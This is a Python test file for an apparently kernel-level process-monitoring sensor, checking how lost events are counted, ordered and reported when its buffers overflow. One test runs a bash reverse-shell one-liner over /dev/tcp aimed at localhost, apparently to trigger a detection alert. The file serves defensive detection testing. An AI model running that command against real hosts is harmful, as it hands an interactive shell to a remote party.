"""What loss does, and what it cannot do."""

import json
import subprocess
from collections.abc import Sequence
from pathlib import Path

from pyloader.monitors import PROCESS, Monitor, Transport
from pyloader.records import EventLoss, ProcessExec, ProcessFork, Record, tag_of
from pyloader.sensor import Sensor
from pyloader.sources import KernelSource
from tests.kernel.command import running
from tests.kernel.observing import observe, run


def lost(records: Sequence[Record], kind: type[Record]) -> int:
    """Return how many records of a type were told as lost."""
    return sum(one.count for one in records if isinstance(one, EventLoss) and one.lost == tag_of(kind))


def test_a_flood_of_forks_loses_no_execution(programs: Path) -> None:
    """Processes that only fork and end overflow the ring of cheap records; executions meanwhile are all delivered."""
    executions = 40

    def action() -> None:
        script = "i=0; while [ $i -lt 3000 ]; do (:); i=$((i+1)); done"
        with subprocess.Popen(["sh", "-c", script]):
            for number in range(executions):
                run([programs / "nothing", str(number)])

    records = [one.record for one in observe(action, PROCESS, 1 << 16)]

    assert lost(records, ProcessFork) > 0
    assert lost(records, ProcessExec) == 0
    name = str(programs / "nothing").encode()
    seen = [one.args.split(b"\0")[1] for one in records if isinstance(one, ProcessExec) and one.args.startswith(name)]
    assert [str(number).encode() for number in range(executions)] == seen


def test_a_loss_stands_where_it_happened(programs: Path) -> None:
    """A loss comes in the stream behind the records that filled the ring, and before those that came after it."""
    ring_bytes = 1 << 16
    with Sensor(source=KernelSource([PROCESS], ring_bytes=ring_bytes)) as sensor:
        run([programs / "flood", "1000", programs / "nothing"])
        stream = iter(sensor)
        records = [next(stream).record]
        while not isinstance(records[-1], EventLoss):
            records.append(next(stream).record)
        run([programs / "nothing", "after"])
        sensor.stop()
        records += [one.record for one in stream]

    first = next(place for place, one in enumerate(records) if isinstance(one, EventLoss))
    assert all(one.timestamp <= records[first].timestamp for one in records[:first])
    behind = [one for one in records[first:] if isinstance(one, ProcessExec)]
    assert any(b"after" in one.args for one in behind)
    assert all(one.timestamp >= records[first].timestamp for one in behind)


def test_a_verdict_after_a_loss_says_so(programs: Path, tmp_path: Path) -> None:
    """An alert that follows a loss carries a lower confidence and tells how many records are missing."""
    with running(tmp_path, "--ring-bytes", "65536") as sensor:
        sensor.process.send_signal(19)
        run([programs / "flood", "1000", programs / "nothing"])
        sensor.process.send_signal(18)
        run(["bash", "-c", "sleep 1.5; exec bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"])

    (alert,) = sensor.alerts()
    assert alert["confidence"] < 1
    assert "records were lost" in alert["summary"]


def test_both_transports_count_the_same(rung: Monitor, programs: Path) -> None:
    """Received and lost together are what was produced, through rings and through the perf buffer alike."""
    count = 1_500
    for transport in Transport:
        with Sensor(source=KernelSource([rung], ring_bytes=1 << 20, transport=transport)) as sensor:
            run([programs / "flood", str(count), programs / "nothing"])
            sensor.stop()
            records = [one.record for one in sensor]

        name = str(programs / "nothing").encode()
        received = sum(isinstance(one, ProcessExec) and one.args.startswith(name) for one in records)
        assert received <= count
        assert received + lost(records, ProcessExec) >= count, json.dumps(sensor.summary().lost)
